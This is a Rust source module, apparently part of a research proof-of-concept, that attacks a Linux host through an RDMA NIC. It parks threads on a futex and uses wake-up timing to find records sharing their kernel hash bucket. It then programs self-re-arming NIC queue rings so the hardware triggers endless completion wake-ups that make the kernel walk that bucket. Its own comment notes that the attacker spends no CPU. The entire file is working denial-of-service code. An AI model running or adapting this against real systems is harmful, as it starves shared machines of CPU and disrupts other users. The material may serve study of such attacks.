//! Threads parked in the hash bucket of CQs' records, which the kernel walks in each wake-up of the CQs.
//!
//! ```text
//! ring of each CQ | WRITE: armed = 1 | NOP, signaled | ... | FAA: index of SEND_EN | SEND_EN |  round again
//! ```
//!
//! The NIC arms each CQ and completes on it for ever by itself: the attacker takes no CPU of its own.

use std::time::Instant;

use anyhow::{Context, Result};
use rnic::ids::{Access, Key};
use rnic::memory::DmaMemory;
use rnic::port::ARMED;
use rnic::port::control::Verb;
use rnic::wqe::{Remote, Sge, WQEBB};
use rustix::thread::futex;
use serde_json::{Value, json};

use crate::Arguments;
use crate::nic::{Nic, part};
use crate::queue::{Qp, Shape};

/// CQs: as many as the NIC's thread wakes in a round.
const CQS: usize = 4;
/// Building blocks of a CQ's ring.
const BLOCKS: u32 = 64;
/// Records from which the ones with the slowest wake-ups are taken: many times the kernel's buckets.
const RECORDS: usize = 16 << 10;
/// Bytes between two of them.
const APART: usize = 64;
/// Bytes of a parked thread's stack.
const STACK: usize = 16 << 10;

/// Parks `--count` threads, makes CQs in their bucket, says so, and has the NIC wake these CQs as often as
/// it can, from one line on standard input to the next.
pub fn threads(a: &Arguments) -> Result<Value> {
    let nic = Nic::open(&a.socket)?;
    let pd = nic.pd()?;
    let records = nic.memory(RECORDS * APART)?;
    let key = nic.register(pd, &records, Access::LOCAL_ALL | Access::REMOTE_ALL)?;
    a.ready()?;
    park(&records, a.count)?;
    let slowest = slowest(&records, a.count);
    let shape = Shape::endless(BLOCKS);
    let mut rings = Vec::new();
    for record in &slowest {
        let mut qp = Qp::with_record(&nic, pd, shape, part(&records, record * APART, 8))?;
        let ring = nic.register(pd, &qp.memory, Access::LOCAL_ALL | Access::REMOTE_ALL)?;
        fill(&mut qp, ring, &records, key, *record);
        qp.connect(&nic, qp.qpn)?;
        rings.push(qp);
    }
    a.report(&json!({ "parked": a.count, "records": slowest }))?;
    for qp in &rings {
        nic.verb(Verb::EnableSend { qpn: qp.qpn, limit: BLOCKS as u16 })?;
    }
    a.wait()?;
    let executed = rings.iter().map(|qp| Ok(nic.query(qp.qpn)?.executed));
    Ok(json!({ "executed": executed.sum::<Result<u64>>()? }))
}

/// A ring that arms its CQ before each completion.
fn fill(qp: &mut Qp, ring: Key, records: &DmaMemory, key: Key, record: usize) {
    // The first record belongs to no CQ: its first half is the value to be written, and threads are
    // parked on its second half. The next 8 bytes take the results of the fetch-and-adds.
    records.word32(0).store(1, std::sync::atomic::Ordering::Relaxed);
    let one = Sge { addr: records.addr(), len: 4, lkey: key };
    let old = Sge { addr: records.addr() + 8, len: 8, lkey: key };
    let armed = Remote { addr: records.addr() + (record * APART + ARMED) as u64, rkey: key };
    for _ in 0..BLOCKS / 2 - 1 {
        qp.put(|b| _ = b.rdma_write(armed, &[one]));
        qp.put(|b| _ = b.nop().signaled());
    }
    // The index stands in the first half of the word at +24 of the last WQE.
    let last = qp.memory.addr() + (qp.send_at() + (BLOCKS as usize - 1) * WQEBB) as u64;
    let index = Remote { addr: last + 24, rkey: ring };
    let qpn = qp.qpn;
    qp.put(|b| _ = b.fetch_add(index, (BLOCKS as u64) << 32, old));
    qp.put(|b| _ = b.send_enable(qpn, BLOCKS));
}

/// Parks threads on the first record's armed word, for as long as this process lives.
fn park(records: &DmaMemory, count: u64) -> Result<()> {
    for n in 0..count {
        let records = records.clone();
        let parked = std::thread::Builder::new().stack_size(STACK).spawn(move || {
            loop {
                let _ = futex::wait(records.word32(ARMED), futex::Flags::empty(), 0, None);
            }
        });
        parked.with_context(|| format!("parking thread {n}"))?;
    }
    // Nothing but the kernel knows whether the threads sleep by now; one that comes late is not missed.
    std::thread::sleep(std::time::Duration::from_millis(200 + count / 2));
    Ok(())
}

/// The records, besides the first, whose words have the slowest wake-ups: they are in the bucket of the
/// parked threads, if there are any.
fn slowest(records: &DmaMemory, parked: u64) -> Vec<usize> {
    if parked == 0 {
        return (1..=CQS).collect();
    }
    let time = |record: &usize| {
        let once = |_| {
            let start = Instant::now();
            let word = records.word32(*record * APART + ARMED);
            let _ = futex::wake(word, futex::Flags::empty(), 1);
            start.elapsed()
        };
        (0..4).map(once).min().expect("four times")
    };
    let mut all: Vec<_> = (1..RECORDS).map(|record| (time(&record), record)).collect();
    all.sort_unstable();
    all.iter().rev().take(CQS).map(|(_, record)| *record).collect()
}
